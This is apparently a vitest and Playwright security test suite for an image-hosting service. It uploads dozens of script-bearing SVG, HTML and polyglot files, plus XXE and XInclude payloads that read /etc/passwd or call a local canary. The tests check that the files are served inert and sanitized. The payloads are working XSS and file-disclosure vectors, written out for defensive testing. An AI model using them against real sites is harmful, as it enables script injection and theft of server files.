import { gzipSync } from 'node:zlib'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { call, put } from '../support/api.ts'
import { type Canary, startCanary } from '../support/attack.ts'
import { send } from '../support/http-client.ts'
import { startTintype, type TestTintype } from '../support/tintype.ts'

const chromiumPath = process.env.CHROMIUM_PATH
const reason = chromiumPath ? '' : ' (skipped: CHROMIUM_PATH names no browser)'

let tintype: TestTintype
let canary: Canary
beforeAll(async () => {
  tintype = await startTintype()
  canary = await startCanary()
})
afterAll(async () => {
  await tintype?.stop()
  await canary?.close()
})

const NS = 'xmlns="http://www.w3.org/2000/svg"'
/** What every script here does: it writes where the test looks, and calls out. */
const RUN = `document.documentElement.setAttribute('data-ran','1');fetch('http://127.0.0.1:CANARY/ran')`
/** Reads what it wrote. */
const RAN = `document.documentElement?.getAttribute('data-ran') ?? null`
const doc = (inside: string, attributes = '') =>
  `<svg ${NS} xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" ${attributes}>${inside}</svg>`
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])

type Spelling = [what: string, name: string, body: string | Buffer, click?: boolean]
const SPELLINGS: Spelling[] = [
  ['a script', 'script.svg', doc(`<script>${RUN}</script>`)],
  ['a script in CDATA', 'cdata.svg', doc(`<script><![CDATA[${RUN}]]></script>`)],
  ['a script with a type', 'type.svg', doc(`<script type="application/ecmascript">${RUN}</script>`)],
  ['a module', 'module.svg', doc(`<script type="module">${RUN}</script>`)],
  [
    'a script from a data URI',
    'data.svg',
    doc(`<script href="data:text/javascript,${encodeURIComponent(RUN)}"/>`),
  ],
  [
    'the same as xlink',
    'xlink.svg',
    doc(`<script xlink:href="data:text/javascript,${encodeURIComponent(RUN)}"/>`),
  ],
  ['a script from elsewhere', 'remote.svg', doc('<script href="http://127.0.0.1:CANARY/x.js"/>')],
  ['onload of the root', 'onload.svg', doc('', `onload="${RUN}"`)],
  ['onerror of an image', 'onerror.svg', doc(`<image href="data:," onerror="${RUN}"/>`)],
  ['onbegin of an animation', 'onbegin.svg', doc(`<animate attributeName="x" onbegin="${RUN}" dur="1s"/>`)],
  ['onfocus with autofocus', 'onfocus.svg', doc(`<a tabindex="0" autofocus="" onfocus="${RUN}"><rect/></a>`)],
  [
    'a javascript: link',
    'link.svg',
    doc(`<a href="javascript:${RUN}"><rect width="100" height="100"/></a>`),
    true,
  ],
  [
    'a javascript: link that an animation sets',
    'set.svg',
    doc(`<a><set attributeName="href" to="javascript:${RUN}"/><rect width="100" height="100"/></a>`),
    true,
  ],
  [
    'a foreign object',
    'foreign.svg',
    doc(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"><script>${RUN}</script></body></foreignObject>`,
    ),
  ],
  [
    'a frame in a foreign object',
    'frame.svg',
    doc(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${RUN}"></iframe></foreignObject>`,
    ),
  ],
  ['a script of HTML', 'html.svg', doc(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`)],
  [
    'a prefix',
    'prefix.svg',
    `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${RUN}</s:script></s:svg>`,
  ],
  ['UTF-16', 'utf16.svg', utf16(doc(`<script>${RUN}</script>`))],
  [
    'UTF-16 with a prefix',
    'utf16p.svg',
    utf16(`<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${RUN}</s:script></s:svg>`),
  ],
  [
    'an entity',
    'entity.svg',
    `<!DOCTYPE svg [<!ENTITY s "<script xmlns='http://www.w3.org/2000/svg'>${RUN.replaceAll("'", '&#39;')}</script>">]>${doc('&s;')}`,
  ],
  [
    'a style sheet instruction',
    'xsl.svg',
    `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(`<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><script xmlns="http://www.w3.org/2000/svg">${RUN}</script></x:template></x:stylesheet>`)}"?>${doc('')}`,
  ],
  [
    '<use> of a data URI',
    'use.svg',
    doc(
      `<use href="data:image/svg+xml;base64,${Buffer.from(doc(`<g id="x"><script>${RUN}</script></g>`)).toString('base64')}#x"/>`,
    ),
  ],
  [
    'a handler',
    'handler.svg',
    doc(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`),
  ],
  ['svgz', 'packed.svgz', gzipSync(doc(`<script>${RUN}</script>`))],
  ['svg named .png', 'named.png', doc(`<script>${RUN}</script>`)],
  ['svg named .jpg', 'named.jpg', doc(`<script>${RUN}</script>`)],
  ['svg named .xml', 'named.xml', `<?xml version="1.0"?>${doc(`<script>${RUN}</script>`)}`],
  ['svg named .html', 'named.html', doc(`<script>${RUN}</script>`)],
  ['HTML', 'page.html', `<!doctype html><script>${RUN}</script>`],
  ['HTML named .png', 'page.png', `<!doctype html><script>${RUN}</script>`],
  ['HTML named .svg', 'page.svg', `<html><script>${RUN}</script></html>`],
  ['HTML named .txt', 'page.txt', `<!doctype html><script>${RUN}</script>`],
  ['XHTML', 'page.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`],
  [
    'XHTML named .xml',
    'xhtml.xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  ],
  [
    'a GIF that is also a page',
    'poly.gif',
    Buffer.from(`GIF89a/*\x01\0\x01\0\0\0\0*/=1;<script>${RUN}</script>`, 'latin1'),
  ],
  [
    'a JPEG that is also a page',
    'poly.jpg',
    Buffer.from(`\xff\xd8\xff\xe0\0\x10JFIF<html><script>${RUN}</script>`, 'latin1'),
  ],
  ['a PDF that is also a page', 'poly.pdf', `%PDF-1.4\n<html><script>${RUN}</script></html>`],
  ['a script', 'code.js', RUN],
  ['a page without a known type', 'page.bin', `<html><script>${RUN}</script></html>`],
  ['a style sheet', 'a.css', '@import "http://127.0.0.1:CANARY/css";'],
]
const bodyOf = (body: string | Buffer) =>
  typeof body === 'string' ? Buffer.from(body.replaceAll('CANARY', String(canary.port))) : body

describe('C07 C09 active content is stored unchanged and served harmless', () => {
  test.each(SPELLINGS)('C07 C09 headers of %s (%s)', async (_, name, body) => {
    const bytes = bodyOf(body)
    await put(tintype, `/headers/${name}`, bytes)
    const answer = await send(tintype, `/demo/headers/${name}`)
    expect(answer.status).toBe(200)
    expect(answer.body.equals(bytes)).toBe(true)
    expect(answer.headers['x-content-type-options']).toBe('nosniff')
    const policy = answer.headers['content-security-policy']
    expect(policy).toMatch(/^default-src 'none'; /)
    expect(policy).toMatch(/sandbox$/)
    expect(policy).not.toMatch(/allow-|script-src|unsafe-eval/)
    const type = String(answer.headers['content-type']).split(';')[0]!
    // What a browser would run in a frame of its own is downloaded instead.
    if (/html|javascript|xml$/.test(type) && type !== 'image/svg+xml') {
      expect(answer.headers['content-disposition']).toMatch(/^attachment/)
    }
  })

  test.each(SPELLINGS.filter(([, name]) => name.endsWith('.svg')))(
    'C09 the sanitized copy of %s (%s)',
    async (_, name, body) => {
      await put(tintype, `/clean/${name}`, bodyOf(body))
      const answer = await send(tintype, `/demo/clean/${name}?ik-sanitizeSvg=true`)
      const text = answer.body.toString('utf8')
      if (answer.status === 200 && String(answer.headers['content-type']).startsWith('image/svg')) {
        expect(text).not.toMatch(
          /<[^>]*script|\son\w+\s*=|javascript:|<!ENTITY|<\?xml-stylesheet|foreignObject|127\.0\.0\.1/i,
        )
      } else expect([200, 400]).toContain(answer.status)
    },
  )
})

describe.skipIf(reason)(`C09 in a real browser${reason}`, () => {
  let browser: Browser
  let page: Page
  beforeAll(async () => {
    browser = await chromium.launch({
      executablePath: chromiumPath!,
      args: process.env.CHROMIUM_FLAGS?.split(',') ?? [],
    })
    page = await browser.newPage()
  })
  afterAll(() => browser?.close())

  test('the trap works: the same script runs where nobody forbids it', async () => {
    const before = canary.hits()
    await page.goto(
      `data:image/svg+xml,${encodeURIComponent(bodyOf(doc(`<script>${RUN}</script>`)).toString())}`,
    )
    expect(await page.evaluate(RAN)).toBe('1')
    await expect.poll(() => canary.hits()).toBeGreaterThan(before)
  })

  test.each(SPELLINGS)('C09 nothing runs in %s (%s)', async (_, name, body, click) => {
    await put(tintype, `/browser/${name}`, bodyOf(body))
    const before = canary.hits()
    let dialogs = 0
    page.on('dialog', (dialog) => {
      dialogs += 1
      void dialog.dismiss()
    })
    // Downloads end the navigation with an error, and that is well.
    await page.goto(`${tintype.url}/demo/browser/${name}`).catch(() => undefined)
    if (click) await page.mouse.click(50, 50)
    const ran = await page.evaluate(RAN).catch(() => null)
    expect(ran).toBeNull()
    expect(dialogs).toBe(0)
    expect(canary.hits() - before).toBe(0)
  })

  test('C09 a drawing inside of a page of ours, as picture, frame and object, runs nothing', async () => {
    const names = SPELLINGS.map(([, name]) => `${tintype.url}/demo/browser/${name}`)
    const before = canary.hits()
    await page.goto('about:blank')
    await page.setContent(
      names
        .map(
          (url) =>
            `<img src="${url}"><iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
        )
        .join(''),
      { waitUntil: 'load' },
    )
    await page.waitForTimeout(500)
    expect(canary.hits() - before).toBe(0)
  })
})

describe('C10 drawings read no files and ask nobody', () => {
  const target = '/etc/hostname'
  const canaryUrl = () => `http://127.0.0.1:${canary.port}/x.png`
  test.each<[string, (url: string) => string]>([
    [
      'an external entity',
      () => `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${target}">]>${doc('<text>&x;</text>')}`,
    ],
    [
      'an external entity by HTTP',
      (url) => `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url}">]>${doc('<text>&x;</text>')}`,
    ],
    ['an external document type', (url) => `<!DOCTYPE svg SYSTEM "${url}">${doc('')}`],
    ['a parameter entity', (url) => `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${url}">%p;]>${doc('')}`],
    [
      'XInclude',
      () =>
        doc(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${target}" parse="text"/>`),
    ],
    [
      'XInclude with a trick (CVE-2023-38633)',
      () =>
        doc(
          `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href=".?../../../../../..${target}" parse="text"/>`,
        ),
    ],
    ['an image of a file', () => doc('<image href="file:///etc/passwd" width="9" height="9"/>')],
    ['an image by HTTP', (url) => doc(`<image href="${url}" width="9" height="9"/>`)],
    ['an image by xlink', (url) => doc(`<image xlink:href="${url}" width="9" height="9"/>`)],
    ['<use> of another document', (url) => doc(`<use href="${url}#a"/>`)],
    [
      'a filter image',
      (url) =>
        doc(`<filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
    ],
    ['an imported style sheet', (url) => doc(`<style>@import url("${url}");</style>`)],
    ['a style sheet instruction', (url) => `<?xml-stylesheet href="${url}"?>${doc('')}`],
    [
      'a font',
      (url) =>
        doc(`<style>@font-face{font-family:x;src:url("${url}")}</style><text font-family="x">a</text>`),
    ],
    ['a background', (url) => doc(`<rect style="fill:url(${url}#a)" width="9" height="9"/>`)],
    ['a colour profile', (url) => doc(`<color-profile name="x" xlink:href="${url}"/>`)],
  ])('C10 S20 %s', async (what, make) => {
    const before = canary.hits()
    const file = await put(
      tintype,
      `/outward/${what.replace(/\W/g, '-')}.svg`,
      Buffer.from(make(canaryUrl())),
    )
    const path = new URL(file.url).pathname
    for (const query of ['tr=w-50,f-png', 'ik-sanitizeSvg=true']) {
      const answer = await send(tintype, `${path}?${query}`)
      expect([200, 400]).toContain(answer.status)
      expect(answer.body.includes('root:')).toBe(false)
    }
    expect((await call(tintype, 'GET', `/v1/files/${file.fileId}/metadata`)).status).toBeLessThan(500)
    expect(canary.hits() - before).toBe(0)
  })
})
